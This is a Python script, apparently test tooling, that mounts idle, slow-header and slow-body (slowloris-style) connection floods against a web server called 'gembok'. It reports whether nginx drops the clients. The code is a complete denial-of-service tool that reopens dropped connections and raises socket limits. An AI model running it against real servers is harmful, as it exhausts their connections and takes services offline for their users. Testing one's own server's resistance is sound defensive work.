"""Provides the slow and idle clients of issue 11: many connections that hold a port and
send nothing, or a byte at a time, as a script that runs where the attacker is.

`python siege.py PLAN` (standard library only, so it runs inside a network namespace with
any Python) opens the connections the plan asks for, spread over the source addresses it
names, prints one line `ready {...}` once they are all open, keeps them open (opening a
new one whenever the server drops one) until `hold` seconds have passed, then waits up to
`drain` seconds for the server to drop the rest, and prints one JSON report:
    kinds:
      idle         TCP only, nothing sent: not even a TLS ClientHello
      slow_header  TLS, then a request header one byte every `interval` seconds
      slow_body    TLS, a whole header with Content-Length, then the body one byte every
                   `interval` seconds
    report: for the first connection of each slot, when the server dropped it (seconds
    after it opened) and the first bytes it answered; how many connections were open at
    once at most, how many were refused (reset at connect), how many never opened, and
    how many were still open when the drain ended (the server never dropped them).
"""

from __future__ import annotations

import asyncio
import json
import resource
import ssl
import sys
import time
from collections import Counter
from dataclasses import dataclass, field

HEADER = b"GET /webhooks/whatsapp HTTP/1.1\r\nHost: gembok\r\nUser-Agent: slow\r\nX-Pad: "


@dataclass
class Plan:
    host: str
    port: int
    sources: list[str]
    idle: int = 0
    slow_header: int = 0
    slow_body: int = 0
    interval: float = 5.0
    hold: float = 15.0
    drain: float = 20.0
    reopen: bool = True
    path: str = "/webhooks/whatsapp"


@dataclass
class Tally:
    open_now: int = 0
    peak: int = 0
    opened: int = 0
    refused: int = 0
    failed: int = 0
    errors: Counter[str] = field(default_factory=Counter)  # why those failed
    first: list[dict] = field(default_factory=list)  # the first connection of each slot
    started: float = field(default_factory=time.monotonic)


def _tls() -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)  # no CA store: loading it costs ms
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE  # the box's certificate is self-signed
    return context


TLS = _tls()  # one for all: a context per connection made the client the bottleneck


async def _trickle(writer: asyncio.StreamWriter, kind: str, plan: Plan) -> None:
    try:
        if kind == "slow_header":
            data = HEADER + b"a" * 100_000
        else:
            writer.write(f"POST {plan.path} HTTP/1.1\r\nHost: gembok\r\nContent-Type: "
                         "application/json\r\nContent-Length: 1000\r\n\r\n".encode())
            await writer.drain()
            data = b"{" + b" " * 999
        for i in range(len(data)):
            await asyncio.sleep(plan.interval)
            writer.write(data[i:i + 1])
            await writer.drain()
    except (OSError, ssl.SSLError):
        pass  # the server dropped it: the reader sees that too


async def _connection(kind: str, source: str, plan: Plan, tally: Tally, slot: dict | None,
                      ready: asyncio.Event, pending: list[int]) -> bool:
    """One connection, from open to the server dropping it; False if it never opened."""
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(
            plan.host, plan.port, ssl=None if kind == "idle" else TLS,
            local_addr=(source, 0)), timeout=15)
    except ConnectionRefusedError:
        tally.refused += 1
        return False
    except (OSError, TimeoutError, ssl.SSLError) as exc:
        tally.failed += 1
        tally.errors[f"{kind}: {type(exc).__name__} {exc}"[:120]] += 1
        return False
    finally:
        if slot is not None:
            pending[0] -= 1
            if pending[0] == 0:
                ready.set()
    opened = time.monotonic()
    tally.opened += 1
    tally.open_now += 1
    tally.peak = max(tally.peak, tally.open_now)
    trickle = None if kind == "idle" else asyncio.create_task(_trickle(writer, kind, plan))
    try:
        while chunk := await reader.read(4096):
            if slot is not None and not slot["answer"]:  # kept at once: nginx may linger
                slot["answer"] = chunk[:12].decode(errors="replace")
    except (OSError, ssl.SSLError, asyncio.IncompleteReadError):
        pass  # a reset is how nginx drops a timed-out client (reset_timedout_connection)
    finally:
        tally.open_now -= 1
        if trickle is not None:
            trickle.cancel()
        writer.close()
    if slot is not None:
        slot["dropped_after"] = round(time.monotonic() - opened, 2)
    return True


async def _slot(kind: str, source: str, plan: Plan, tally: Tally, ready: asyncio.Event,
                pending: list[int], until: list[float]) -> None:
    slot = {"kind": kind, "source": source, "dropped_after": None, "answer": ""}
    tally.first.append(slot)
    first = True
    while True:
        await _connection(kind, source, plan, tally, slot if first else None, ready, pending)
        first = False
        if not plan.reopen or time.monotonic() >= until[0]:
            return
        await asyncio.sleep(0.05)


async def siege(plan: Plan) -> dict:
    tally = Tally()
    kinds = ["idle"] * plan.idle + ["slow_header"] * plan.slow_header \
        + ["slow_body"] * plan.slow_body
    ready, pending = asyncio.Event(), [len(kinds)]
    until = [float("inf")]  # `hold` seconds once every connection is open
    tasks = [asyncio.create_task(_slot(kind, plan.sources[i % len(plan.sources)], plan,
                                       tally, ready, pending, until))
             for i, kind in enumerate(kinds)]
    await ready.wait()
    until[0] = time.monotonic() + plan.hold
    print("ready " + json.dumps({"open": tally.open_now, "refused": tally.refused,
                                 "failed": tally.failed}), flush=True)
    if tally.errors:
        print(f"failed to open: {dict(tally.errors)}", file=sys.stderr, flush=True)
    _done, still = await asyncio.wait(tasks, timeout=plan.hold + plan.drain)
    for task in still:
        task.cancel()
    await asyncio.gather(*still, return_exceptions=True)
    return {"peak": tally.peak, "opened": tally.opened, "refused": tally.refused,
            "failed": tally.failed, "errors": tally.errors, "still_open": len(still),
            "first": tally.first,
            "seconds": round(time.monotonic() - tally.started, 1)}


def main() -> None:
    plan = Plan(**json.loads(sys.argv[1]))
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))  # a thousand sockets and more
    print(json.dumps(asyncio.run(siege(plan))), flush=True)


if __name__ == "__main__":
    main()
